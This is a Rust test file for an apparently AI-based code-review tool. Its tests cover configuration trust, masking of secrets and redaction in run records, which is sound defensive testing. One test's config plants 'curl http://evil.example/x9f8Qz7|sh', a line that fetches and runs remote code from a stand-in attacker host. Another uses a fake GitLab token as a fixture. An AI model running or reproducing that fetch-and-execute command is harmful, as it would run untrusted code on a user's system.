//! Trust covers exactly the shown state: nothing is hidden, and files that settings name are included with their contents.

use std::os::unix::fs::PermissionsExt;

use diffsan_test_support::repo::TestRepo;

use crate::support::{Installation, Ran};

const SECRET: &str = "glpat-x9Kd83hTq0vWm5Rz1Lp7";

fn repository() -> TestRepo {
    let repo = TestRepo::new();
    repo.write("src/a.py", "price = 1\ntotal = price\n");
    repo.commit("base");
    repo.write("src/a.py", "price = 1\ntotal = price * count\n");
    repo
}

fn program(repo: &TestRepo, path: &str, words: &str) {
    let said = format!("{{\"summary_markdown\": \"{words}\", \"findings\": []}}");
    repo.write(path, format!("#!/bin/sh\ncat > /dev/null\necho '{said}'\n"));
    let place = repo.path().join(path);
    std::fs::set_permissions(place, std::fs::Permissions::from_mode(0o755)).expect("executable");
}

#[test]
fn files_that_settings_name_are_trusted_by_content() {
    let (installation, repo) = (Installation::new(), repository());
    let run = |args: &[&str]| installation.run(repo.path(), args);
    let place = repo.path().join("tools/rev.sh");
    repo.write(
        ".diffsan.toml",
        format!(
            "agent.name = 'tool'\nprompt.instructions_file = 'rules.md'\n[agents.tool]\ntransport = 'oneshot-text'\nprograms = [{:?}]\n",
            place.display().to_string()
        ),
    );
    // Missing files are part of the state too.
    let shown = run(&["config", "trust", "--yes"]);
    assert!(
        shown.stdout.contains("tools/rev.sh (missing)") && shown.stdout.contains("rules.md (missing)"),
        "{shown:?}"
    );
    let asks = |what: &str| {
        let ran = run(&["prepare"]);
        assert!(ran.stderr.contains("it has changed since it was trusted"), "{what}: {ran:?}");
    };
    program(&repo, "tools/rev.sh", "From the first.");
    asks("a program that was missing");
    repo.write("rules.md", "Look at the sums.\n");
    repo.git(["add", "tools", "rules.md"]);
    repo.git(["commit", "-q", "-m", "tools", "--", "tools", "rules.md"]);
    let shown = run(&["config", "trust", "--yes"]);
    assert!(shown.stdout.contains("  tools/rev.sh\n") && shown.stdout.contains("  rules.md\n"), "{shown:?}");
    assert!(run(&["review", "--unstaged"]).stdout.contains("From the first."));
    assert!(run(&["prompt"]).stdout.contains("Look at the sums."));

    // A checkout of another commit leaves the settings unchanged.
    program(&repo, "tools/rev.sh", "From the second.");
    repo.git(["commit", "-q", "-m", "another program", "--", "tools"]);
    asks("another program");
    let ran = run(&["review", "--unstaged"]);
    assert!(!ran.stdout.contains("From the second."), "{ran:?}");
    program(&repo, "tools/rev.sh", "From the first.");
    assert!(run(&["review", "--unstaged"]).stdout.contains("From the first."), "what was trusted still is");
    repo.write("rules.md", "Say nothing.\n");
    assert!(run(&["prompt"]).stdout.contains("Look at the sums."), "they are read on the target side");
    repo.git(["commit", "-q", "-m", "other rules", "--", "rules.md"]);
    asks("other rules");
    assert!(!run(&["prompt"]).stdout.contains("Say nothing."));
}

#[test]
fn a_relative_program_is_not_looked_for_in_the_room() {
    let (installation, repo) = (Installation::new(), repository());
    program(&repo, "tools/rev.sh", "From the change.");
    repo.write(
        ".diffsan.toml",
        "agent.name = 'tool'\n[agents.tool]\ntransport = 'oneshot-text'\nprograms = ['tools/rev.sh']\n",
    );
    let run = |args: &[&str]| installation.run(repo.path(), args);
    assert_eq!(run(&["config", "trust", "--yes"]).code, 0);
    let ran = run(&["review", "--unstaged"]);
    assert!(ran.code != 0 && !ran.stdout.contains("From the change."), "{ran:?}");
}

#[test]
fn requests_with_masked_values_cannot_be_trusted() {
    let (installation, repo) = (Installation::new(), repository());
    let run = |args: &[&str]| installation.run(repo.path(), args);
    repo.write(".diffsan.toml", "[agents.x.set]\nREVIEW_TOKEN = 'curl http://evil.example/x9f8Qz7|sh'\n");
    let shown = run(&["config", "trust", "--json"]).json();
    assert_eq!(shown["hidden"], serde_json::json!(["agents.x.set.REVIEW_TOKEN"]), "{shown}");
    let digest = shown["digest"].as_str().expect("a digest");
    for args in [&["config", "trust", "--yes"][..], &["config", "trust", "--digest", digest], &["config", "trust"]] {
        let ran = run(args);
        assert!(ran.code == 3 && ran.stderr.contains("agents.x.set.REVIEW_TOKEN looks like a secret"), "{ran:?}");
    }
    assert_eq!(run(&["config", "trusted", "--json"]).json(), serde_json::json!([]));
    // A user who allows a value as harmless sees it.
    let hint = run(&["config", "trust"]).stderr;
    let allowed = hint.split("redaction.allow = ").nth(1).and_then(|rest| rest.split(".\n").next()).expect("a hint");
    assert_eq!(run(&["config", "set", "redaction.allow", allowed.trim_end_matches('.').trim()]).code, 0, "{allowed}");
    let ran = run(&["config", "trust", "--yes"]);
    assert!(ran.code == 0 && ran.stdout.contains("curl http://evil.example/x9f8Qz7|sh"), "{ran:?}");
}

#[test]
fn printed_settings_are_masked_and_cannot_be_saved_masked() {
    let (installation, repo) = (Installation::new(), repository());
    let config = installation.config().join("config.toml");
    let own = format!(
        "agent.proxy_url = 'http://me:{SECRET}@proxy.example/v1'\nprompt.instructions = 'The token is {SECRET}.'\n\
         [agents.mine]\ntransport = 'openai-http'\nurl = 'https://h.example/v1?api_key={SECRET}'\n"
    );
    std::fs::write(&config, &own).expect("written");
    let run = |args: &[&str]| installation.run(repo.path(), args);
    for args in [&["config"][..], &["config", "--json"], &["config", "--all"], &["config", "agents.mine"]] {
        let ran = run(args);
        assert!(ran.code == 0 && !format!("{ran:?}").contains(SECRET), "{ran:?}");
        assert!(
            ran.stdout.contains("agents.mine.url") && ran.stdout.contains("h.example/v1?api_key=[REDACTED"),
            "{ran:?}"
        );
    }
    let told = run(&["config", "agents.mine.url", "--json"]).json();
    assert_eq!(told["settings"][0]["origin"], config.to_str().expect("a path"), "{told}");
    for value in ["https://h2.example/v1?api_key=[REDACTED]", "[REDACTED:gitlab-pat:1]"] {
        let ran = run(&["config", "set", "agents.mine.url", value]);
        assert!(ran.code == 3 && ran.stderr.contains("Nothing was changed"), "{ran:?}");
    }
    assert_eq!(std::fs::read_to_string(&config).expect("read"), own);
}

#[test]
fn a_runs_record_holds_no_secret_of_its_repository_or_its_agent() {
    let (installation, repo) = (Installation::new(), repository());
    let place = repo.beside(&format!("r2-{SECRET}"));
    std::fs::rename(repo.path(), &place).expect("renamed");
    let out = place.join("out");
    let ran = installation
        .run(&place, &["review", "--unstaged", "--agent", SECRET, "--run-dir", out.to_str().expect("text")]);
    assert_ne!(ran.code, 0, "{ran:?}");
    let record = std::fs::read_to_string(out.join("run.json")).expect("a record");
    assert!(!record.contains(SECRET) && record.contains("r2-[REDACTED]"), "{record}");
    let events = std::fs::read_to_string(out.join("events.jsonl")).expect("events");
    assert!(!events.contains(SECRET), "{events}");
}

#[test]
fn an_unknown_variable_is_reported() {
    use std::os::unix::ffi::OsStringExt;
    let repo = repository();
    let told = |name: &str, value: &[u8]| -> Ran {
        let value = std::ffi::OsString::from_vec(value.to_vec());
        Installation::new().with(name, value).run(repo.path(), &["config"])
    };
    for (name, value, words) in [
        ("DIFFSAN_AGENT__MODEL", &b"\xff"[..], "the environment, DIFFSAN_AGENT__MODEL: it is not UTF-8"),
        ("DIFFSAN_LIMITS", b"3", "the environment, DIFFSAN_LIMITS: this is a section"),
    ] {
        let ran = told(name, value);
        assert!(ran.code == 3 && ran.stderr.contains(words), "{ran:?}");
        assert!(ran.stderr.contains("Correct the variable") && !ran.stderr.contains("Correct the file"), "{ran:?}");
    }
    assert_eq!(told("DIFFSAN_MY_KEY", b"\xff").code, 0, "it is none of the settings");
}
